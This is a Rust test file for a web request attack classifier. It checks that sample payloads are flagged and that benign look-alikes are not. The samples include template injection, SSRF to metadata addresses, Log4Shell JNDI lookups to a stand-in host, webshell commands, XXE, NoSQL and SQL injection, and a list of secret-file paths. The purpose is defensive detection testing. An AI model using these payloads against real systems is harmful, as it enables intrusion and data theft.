//! The rarer kinds of attack, the other fields of a request, and requests made at random.

use super::super::*;
use super::{classes, first_is, nothing_in};
use WebClass::*;
use proptest::prelude::*;

#[test]
fn expressions_for_template_engines_are_found() {
    first_is(
        Ssti,
        "name",
        &[
            "{{6*6}}",
            "${6*6}",
            "<%= 6*6 %>",
            "#{6*6}",
            "{{config}}",
            "{{ ''.__class__.__mro__ }}",
            "{{request.application}}",
            "*{6*6}",
            "${T(java.lang.Runtime).x}",
            "{{self._TemplateReference__context}}",
        ],
    );
    nothing_in(
        "name",
        &[
            "{{ name }}",
            "${name}",
            "{a: 1}",
            "{{ item.price }}",
            "50% off",
            "#1",
            "{ }",
            "a ${b} c",
            "{% of people",
            "${{ github.ref }}",
        ],
    );
}

#[test]
fn addresses_of_the_inner_network_are_found() {
    first_is(
        Ssrf,
        "url",
        &[
            "http://127.0.0.1/",
            "http://localhost:8080/admin",
            "http://169.254.169.254/latest/meta-data/",
            "http://[::1]/",
            "http://2130706433/",
            "http://0x7f.1/",
            "gopher://a.example:6379/_x",
            "dict://127.0.0.1:11211/",
            "http://10.0.0.5/",
            "http://metadata.google.internal/",
        ],
    );
    nothing_in(
        "url",
        &[
            "https://example.com/a",
            "http://8.8.8.8/",
            "example.com",
            "mailto:a@b.example",
            "https://example.com/?q=localhost",
            "https://internal.example.com/",
            "/local/path",
            "https://b\u{fc}cher.example/",
            "10.0.0.5",
            "http: what is it",
        ],
    );
}

#[test]
fn lookups_for_log4j_are_found_wherever_they_stand() {
    for agent in [
        "${jndi:ldap://a.example/x}",
        "${${lower:j}ndi:rmi://a.example/x}",
        "${${::-j}${::-n}${::-d}${::-i}:dns://a.example}",
        "x ${jndi:${lower:l}dap://a.example}",
    ] {
        let request = Request { target: "/", user_agent: agent, ..Request::default() };
        let findings = classify(&request);
        assert_eq!(
            findings.first().map(|f| (f.class, f.field)),
            Some((Log4shell, Field::UserAgent)),
            "{agent}"
        );
    }
    first_is(
        Log4shell,
        "q",
        &[
            "${jndi:ldap://a.example/x}",
            "${env:HOME}",
            "${${env:A:-j}ndi:ldap:x}",
            "${jn${upper:d}i:rmi://a.example}",
        ],
    );
    nothing_in("q", &["jndi tutorial", "${home}", "what is log4j", "lower: the floor"]);
}

#[test]
fn code_of_the_server_is_found() {
    first_is(
        CodeInjection,
        "x",
        &[
            "<?php echo 1;",
            "eval($_POST[a])",
            "assert('1')",
            "base64_decode('aGk=')",
            "__import__('os')",
            "%{(#a=1)}",
            "class.module.classLoader.resources",
            "require('child_process').exec",
            "O:4:\"User\":1:{s:1:\"a\";i:1;}",
            "<!--#exec cmd=\"id\" -->",
            "java.lang.Runtime",
            "@{[ system 'x' ]}",
        ],
    );
    nothing_in(
        "x",
        &[
            "php tutorial",
            "evaluate (this)",
            "java.util is a package",
            "assert yourself",
            "require a visa",
            "<?xml version=\"1.0\"?>",
            "import taxes",
            "class module",
            "process engineer",
            "o:a",
        ],
    );
}

#[test]
fn redirects_to_other_sites_are_found() {
    first_is(
        OpenRedirect,
        "next",
        &[
            "//evil.example",
            "/\\evil.example",
            "https://evil.example/",
            "///evil.example/..",
            "https:evil.example",
            "http://good.example@evil.example/",
            "/https://evil.example",
            "http://0x8080808/",
        ],
    );
    nothing_in(
        "next",
        &["/account/", "/search?q=a//b", "account", "2", "home.html", "/a/b?c=d", "#top", ""],
    );
    let own = Request {
        target: "/login?next=https://shop.example/cart",
        referer: "https://shop.example/",
        ..Request::default()
    };
    assert!(classify(&own).is_empty());
}

#[test]
fn entities_and_operators_of_databases_are_found() {
    first_is(
        Xxe,
        "xml",
        &[
            "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///x\">]>",
            "<!ENTITY % a SYSTEM 'http://a.example'>",
            "<!DOCTYPE a SYSTEM \"http://a.example/b\">",
        ],
    );
    first_is(
        NosqlInjection,
        "q",
        &["{\"$gt\": \"\"}", "{\"a\":{\"$ne\":1}}", "x', $where: '1==1", "1;return true"],
    );
    assert_eq!(classes("/login?user[$ne]=x&pass[$ne]=y").first(), Some(&NosqlInjection));
    assert_eq!(classes("/login?user%5B%24gt%5D=").first(), Some(&NosqlInjection));
    nothing_in("q", &["<?xml version=\"1.0\"?><a/>", "{\"name\":\"x\"}", "$5 where?", "costs $10"]);
    assert!(classes("/list?tag[]=a&filter[name]=b").is_empty());
}

#[test]
fn scanners_that_name_themselves_are_found() {
    let agent_of = |agent: &str| {
        let request = Request { target: "/", user_agent: agent, ..Request::default() };
        classify(&request).first().map(|finding| finding.class)
    };
    for agent in [
        "sqlmap/1.8#stable",
        "Mozilla/5.0 (Nikto/2.5)",
        "Nuclei - Open-source project",
        "gobuster/3.6",
        "Fuzz Faster U Fool v2",
        "Mozilla/5.0 zgrab/0.x",
        "WPScan v3.8",
        "masscan/1.3",
        "dirbuster-1.0",
        "FooVulnScanner/2.0",
        "Mozilla/4.0 (Hydra)",
        "Hydra v9.5",
        "Medusa/2.3",
    ] {
        assert_eq!(agent_of(agent), Some(Scanner), "{agent}");
    }
    for agent in [
        "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
        "curl/8.5.0",
        "Googlebot/2.1 (+http://www.google.com/bot.html)",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X)",
        "python-requests/2.32",
        "Wget/1.21",
        "Go-http-client/2.0",
        "Googlebot-Image/1.0",
        "Mozilla/5.0 (Windows NT 6.3; Trident/7.0; Touch; rv:11.0) like Gecko",
        "hydrated-client/1.0",
        "Hydra Browser 1.2 (TV)",
        "Medusa Commerce Storefront/1.20",
        "-",
    ] {
        assert_eq!(agent_of(agent), None, "{agent}");
    }
}

#[test]
fn code_in_a_wrapper_is_a_file_that_is_included() {
    let target = "/page/?name=data:text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==";
    let request = Request { method: "GET", target, status: Some(200), ..Request::default() };
    let classes: Vec<WebClass> = classify(&request).iter().map(|found| found.class).collect();
    assert_eq!(classes.first(), Some(&FileInclusion), "{classes:?}");
    assert!(classes.contains(&CodeInjection), "{classes:?}");
}

#[test]
fn planted_scripts_are_found() {
    let first = |target: &str, status: u16| {
        let request = Request { method: "GET", target, status: Some(status), ..Request::default() };
        classify(&request).first().map(|finding| finding.class)
    };
    assert_eq!(first("/uploads/shell.php?cmd=id", 200), Some(Webshell));
    let many = "/uploads/shell.php?cmd=ls%20-la%20%2Fhome%3B%20uname%20-a%3B%20crontab%20-l";
    assert_eq!(first(many, 200), Some(Webshell));
    assert_eq!(first("/images/c99.php", 404), Some(Webshell));
    assert_eq!(first("/x.jsp?cmd=whoami", 200), Some(Webshell));
    assert_eq!(first("/wso.php", 200), Some(Webshell));
    assert_eq!(first("/shop/index.php?cmd=view", 200), None);
    assert_eq!(first("/seashell.php", 200), None);
    assert_eq!(first("/search?q=whoami", 200), None);
    assert_eq!(first("/up.php", 200), None);
}

#[test]
fn a_link_for_script_that_was_taken_for_an_address_is_no_attack() {
    for target in [
        "/javascript:void(0)",
        "/shop/javascript:void%280%29;",
        "/javascript:;",
        "/javascript:",
        "/JavaScript%3Avoid%200",
        "/javascript:window.history.go(-1)",
        "/a/b.html/javascript:window.print();",
    ] {
        assert!(classes(target).is_empty(), "{target}");
    }
    for target in [
        "/javascript:alert(1)",
        "/javascript:void(0);alert(1)",
        "/javascript:void(document.cookie)",
        "/javascript:history.go(x=1)",
        "/x'onclick='y/javascript:void(0)",
        "/go?to=javascript:open(1)",
        "/javascript:void(0)?q=<script>alert(1)</script>",
    ] {
        assert_eq!(classes(target).first(), Some(&Xss), "{target}");
    }
}

#[test]
fn sensitive_paths_are_named() {
    for (target, hoped) in [
        ("/.git/config", Some("a version control repository")),
        ("/app/.env", Some("a file of secrets")),
        ("/.ENV?x=1", Some("a file of secrets")),
        ("/wp-admin/setup.php", Some("the administration of WordPress")),
        ("/phpMyAdmin/index.php", Some("the administration of a database")),
        ("/site.sql.gz", Some("a file that was left behind")),
        ("/%2egit/HEAD", Some("a version control repository")),
        ("/backup.zip", Some("a backup")),
        ("/old/site-2024.tar.gz", Some("a file that was left behind")),
        ("/www.zip", Some("a file that was left behind")),
        ("/shop-backup-2.tgz", Some("a file that was left behind")),
        ("/releases/dump.tar.gz", Some("a file that was left behind")),
        ("/releases/x.tar.gz", None),
        ("/downloads/app-1.2.zip", None),
        ("/pub/db-4.8.30.tar.gz", None),
        ("/web-framework-1.2.tar.gz", None),
        ("/logs/access.log.gz", None),
        ("/index.html", None),
        ("/environment", None),
        ("/.gitignore-guide", None),
        ("/backups-explained", None),
        ("/backup-cameras/", None),
        ("/telescope-reviews?page=2", None),
        ("/phpmyadmin-tutorial", None),
        ("/phpmyadmin-5.2/", Some("the administration of a database")),
        ("/swagger-ui/", Some("the description of an interface")),
        ("/.env-prod", Some("a file of secrets")),
        ("/wp-config-sample.php", Some("a file of secrets")),
        ("/search?q=/.git", None),
    ] {
        assert_eq!(sensitive_path(target), hoped, "{target}");
    }
}

#[test]
fn a_finding_says_where_and_what() {
    let request = Request {
        method: "GET",
        target: "/item/?page=2&id=7%2527%20or%20%271%27=%271&x=y",
        ..Request::default()
    };
    let finding = classify(&request).remove(0);
    assert_eq!(finding.class, SqlInjection);
    assert_eq!(finding.field, Field::Target);
    assert_eq!(finding.parameter.as_deref(), Some("id"));
    assert!(finding.fragment.contains("or '1'='1"), "{}", finding.fragment);
    assert!((70..=100).contains(&finding.strength));
}

#[test]
fn the_referer_and_the_body_are_read_too() {
    let referer = Request {
        target: "/",
        referer: "https://a.example/?q=%3Cscript%3Ealert(1)%3C/script%3E",
        ..Request::default()
    };
    assert_eq!(classify(&referer)[0].field, Field::Referer);
    let body =
        Request { target: "/", extra: "name=anna&id=7%27+or+%271%27%3D%271", ..Request::default() };
    let finding = classify(&body).remove(0);
    assert_eq!((finding.field, finding.parameter.as_deref()), (Field::Extra, Some("id")));
    let search = Request {
        target: "/",
        referer: "https://www.google.com/search?q=union+select+committee&oq=x",
        ..Request::default()
    };
    assert!(classify(&search).is_empty());
}

proptest! {
    #[test]
    fn any_request_is_classified_within_the_bounds(target in ".{0,200}", user_agent in ".{0,80}", referer in ".{0,80}", extra in ".{0,200}") {
        let request = Request { method: "GET", target: &target, status: None, user_agent: &user_agent, referer: &referer, extra: &extra };
        for finding in classify(&request) {
            prop_assert!(finding.fragment.chars().count() <= FRAGMENT_CHARS_MAX);
            prop_assert!((STRENGTH_MIN..=100).contains(&finding.strength));
        }
        let _ = injection_text(&target);
        let _ = sensitive_path(&target);
    }

    #[test]
    fn signs_of_attacks_in_any_order_never_panic(pieces in proptest::collection::vec("[-'\"`;|&$(){}<>/\\\\.%=*#:@!?+ ]{1,3}|union|select|or|etc|script|on|jndi|%c0%af|\\$\\{|\u{fffd}|\u{3c0}", 0..40)) {
        let text = pieces.concat();
        let request = Request { target: &text, user_agent: &text, referer: &text, extra: &text, ..Request::default() };
        let _ = classify(&request);
        let _ = injection_text(&text);
    }
}
